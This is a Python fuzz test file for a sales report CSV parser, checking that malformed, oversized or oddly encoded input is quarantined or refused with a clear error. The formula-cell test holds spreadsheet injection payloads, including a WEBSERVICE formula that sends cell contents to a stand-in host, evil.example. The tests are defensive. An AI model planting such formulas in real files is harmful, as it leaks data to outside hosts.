"""Fuzzing the report reader and parser: whatever the bytes, `parse_report` either returns
a report (bad rows quarantined, each with a reason) or refuses the file with a
`ReportError` whose message names the problem. Any other exception is a crash.

Each strategy runs ~200 examples by default (the `default` profile); the `long` profile
(`MI_FUZZ_EXAMPLES=10000`, `make test-long`) runs that many per strategy.
"""

from __future__ import annotations

import csv
import io
import os
import re

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from mi_core.sales_report import (
    MONEY_COLUMNS,
    REPORT_COLUMNS,
    ParsedReport,
    ReportError,
    parse_report,
)
from tests.sales_report_files import COMPLETED_ROW, sample_bytes, split_lines

pytestmark = pytest.mark.no_database

_COMMON = {
    "deadline": None,
    "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large],
}
settings.register_profile("mi-fuzz-default", max_examples=200, **_COMMON)
# MI_FUZZ_EXAMPLES: examples per strategy in the long mode (`make test-long` sets 1000:
# 11 strategies, so over 10,000 cases).
_LONG = os.environ.get("MI_FUZZ_EXAMPLES")
settings.register_profile("mi-fuzz-long", max_examples=int(_LONG or 200), **_COMMON)
FUZZ = settings(settings.get_profile("mi-fuzz-long" if _LONG else "mi-fuzz-default"))

NAME = "fuzz.csv"
# A refusal names a row, a column or a line where it is about one.
_POINTS_AT = re.compile(r"\b(row|line|column|header)s?\b", re.IGNORECASE)


def assert_clear_outcome(data: bytes) -> ParsedReport | ReportError:
    """The parser's only two allowed answers, each checked for being explicit."""
    try:
        report = parse_report(data, source_name=NAME)
    except ReportError as refusal:
        message = str(refusal)
        assert refusal.problem.strip(), f"empty refusal for {data[:80]!r}"
        assert message.startswith(f"{NAME}: "), message
        assert "\n" not in message, message
        return refusal
    assert isinstance(report, ParsedReport)
    assert len(report.rows) + report.quarantined_row_count <= report.data_row_count
    for bad in report.quarantined:
        assert bad.reason.strip(), bad
        assert bad.row >= 2, bad  # a data row: the header is row 1
        assert bad.column is None or bad.column, bad
    return report


def csv_text(rows: list[list[str]], line_ending: str = "\n") -> str:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator=line_ending).writerows(rows)
    return out.getvalue()


HEADER = list(REPORT_COLUMNS)
GOOD_ROW = [COMPLETED_ROW[column] for column in HEADER]
TITLE = HEADER.index("Item Title")


def row_with(column: str, value: str) -> list[str]:
    """The good row with one cell replaced."""
    return [value if name == column else cell for name, cell in zip(HEADER, GOOD_ROW, strict=True)]


def report_with(rows: list[list[str]], header: list[str] = HEADER, ending: str = "\n") -> bytes:
    return csv_text([header, *rows], ending).encode()


@FUZZ
@given(st.binary(max_size=4096))
@example(b"\x00")
@example(b"\xef\xbb\xbf")
@example(b"\r\n\r\n")
def test_random_bytes(data: bytes) -> None:
    assert_clear_outcome(data)


def _sample_lines() -> list[bytes]:
    return split_lines(sample_bytes())[1]


@FUZZ
@given(st.data())
def test_truncations_of_the_real_report(data: st.DataObject) -> None:
    """The real report cut anywhere (a partial download) and with lines dropped."""
    whole = sample_bytes()
    cut = data.draw(st.integers(min_value=1, max_value=len(whole)), label="cut")
    assert_clear_outcome(whole[:cut])
    lines = _sample_lines()
    keep = data.draw(st.lists(st.sampled_from(range(len(lines))), max_size=30), label="keep")
    assert_clear_outcome(b"\n".join(lines[i] for i in sorted(set(keep))))


@FUZZ
@given(
    st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "latin-1", "cp1252", "utf-8-sig"]),
    st.text(alphabet=st.characters(codec="latin-1", min_codepoint=1), max_size=40),
)
@example("utf-16", "Café mug")
@example("cp1252", "Mug \u2019 \u20ac")  # curly quote and euro: bytes 0x92, 0x80
@example("utf-16-le", "Plain mug")  # regression: UTF-16 without a BOM was called "binary"
def test_encodings(encoding: str, title: str) -> None:
    row = [title if i == TITLE else cell for i, cell in enumerate(GOOD_ROW)]
    text = csv_text([HEADER, row])
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        data = text.encode(encoding, errors="replace")
    outcome = assert_clear_outcome(data)
    if encoding.startswith("utf-16"):
        assert isinstance(outcome, ReportError) and "UTF-16" in outcome.problem, outcome
    if isinstance(outcome, ReportError) and encoding in ("latin-1", "cp1252"):
        # A one-byte encoding is refused at the byte that is not UTF-8: the message says where.
        assert _POINTS_AT.search(outcome.problem), outcome


@FUZZ
@given(st.integers(min_value=len(HEADER), max_value=10_000), st.booleans())
@example(10_000, True)
@example(10_000, False)
def test_very_wide_files(width: int, header_too: bool) -> None:
    """Up to 10,000 columns, in the data rows only or in the header as well."""
    extra = [f"Extra {i}" for i in range(width - len(HEADER))]
    header = HEADER + extra if header_too else HEADER
    row = GOOD_ROW + ["x"] * len(extra)
    assert_clear_outcome(report_with([row, GOOD_ROW], header))


@FUZZ
@given(
    st.sampled_from(HEADER),
    st.integers(min_value=1, max_value=2_000_000),
    st.sampled_from('x,"\n9é'),
)
@example("Item Title", 2_000_000, "x")
# Regressions: amounts beyond int64 (OverflowError building the frame) and beyond Python's
# 4,300-digit int() limit (ValueError) crashed the parser; they are now quarantined.
# Cells over 131,072 characters are refused naming the row and column.
@example("Item Price", 5_000, "9")
@example("Net Seller Proceeds", 25, "9")
def test_huge_cells(column: str, size: int, char: str) -> None:
    row = row_with(column, char * size)
    outcome = assert_clear_outcome(report_with([row, GOOD_ROW]))
    if isinstance(outcome, ReportError):
        assert "row 2" in outcome.problem and column in outcome.problem, outcome
    elif char == "9" and size > 10 and column in MONEY_COLUMNS:
        assert isinstance(outcome, ParsedReport), outcome
        reasons = [bad.reason for bad in outcome.quarantined if bad.row == 2]
        assert any("too large" in reason for reason in reasons), reasons


FORMULA_PREFIXES = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "|", "=HYPERLINK("])


@FUZZ
@given(
    FORMULA_PREFIXES,
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60),
    st.sampled_from(HEADER),
)
@example("=", 'HYPERLINK("https://evil.example","click")', "Item Title")
@example("=", 'WEBSERVICE("https://evil.example/?"&A1)', "Item Price")
def test_formula_cells(prefix: str, rest: str, column: str) -> None:
    row = row_with(column, prefix + rest)
    outcome = assert_clear_outcome(report_with([row]))
    one_line = (prefix + rest).splitlines() == [prefix + rest]  # the reader reads lines
    if column == "Item Title" and prefix.startswith(("=", "+", "@")) and rest.strip() and one_line:
        # A formula title is data: the row is kept, its title as text (the exports neutralise it).
        assert isinstance(outcome, ParsedReport) and len(outcome.rows) == 1, outcome
        assert outcome.rows["item_title"].iloc[0].startswith(prefix), outcome.rows.iloc[0]


@FUZZ
@given(st.integers(min_value=0, max_value=2_000), st.sampled_from([b"\x00", b"\x00\x00"]))
def test_nul_bytes_anywhere(position: int, nul: bytes) -> None:
    data = report_with([GOOD_ROW] * 3)
    position = min(position, len(data))
    outcome = assert_clear_outcome(data[:position] + nul + data[position:])
    assert isinstance(outcome, ReportError) and "NUL" in outcome.problem


@FUZZ
@given(st.lists(st.sampled_from([b"\n", b"\r\n", b"\r"]), min_size=1, max_size=8))
@example([b"\r"])
@example([b"\r\n", b"\n", b"\r"])
def test_mixed_line_endings(endings: list[bytes]) -> None:
    lines = _sample_lines()[:40]
    data = b"".join(line + endings[i % len(endings)] for i, line in enumerate(lines))
    assert_clear_outcome(data)


@FUZZ
@given(st.lists(st.sampled_from(HEADER), min_size=1, max_size=4))
@example(["Item Id"])
@example(["Item Title", "Net Seller Proceeds"])
def test_duplicated_headers(duplicates: list[str]) -> None:
    header = HEADER + duplicates
    row = GOOD_ROW + [COMPLETED_ROW[name] for name in duplicates]
    outcome = assert_clear_outcome(report_with([row], header))
    if isinstance(outcome, ReportError):
        assert any(name in outcome.problem for name in duplicates), outcome


@FUZZ
@given(st.integers(min_value=0, max_value=50), st.booleans())
@example(10, True)
def test_totals_row_in_the_middle(at: int, blank_before: bool) -> None:
    """A Totals row (as Mercari writes at the end) between data rows."""
    lines = _sample_lines()
    totals = next(line for line in reversed(lines) if line.startswith(b'"Totals'))
    data_lines = [line for line in lines[1:] if line and not line.startswith(b'"Totals')][:50]
    at = min(at, len(data_lines))
    middle = ([b""] if blank_before else []) + [totals]
    body = data_lines[:at] + middle + data_lines[at:]
    assert_clear_outcome(b"\n".join([lines[0], *body]))


@FUZZ
@given(
    st.lists(
        st.lists(st.text(max_size=30), min_size=0, max_size=len(HEADER) + 3),
        max_size=8,
    ),
    st.sampled_from(["\n", "\r\n", "\r"]),
)
def test_random_rows_under_a_real_header(rows: list[list[str]], ending: str) -> None:
    """Cells of any text and rows of any width below a valid header: quarantine or refusal."""
    assert_clear_outcome(report_with(rows, HEADER, ending))
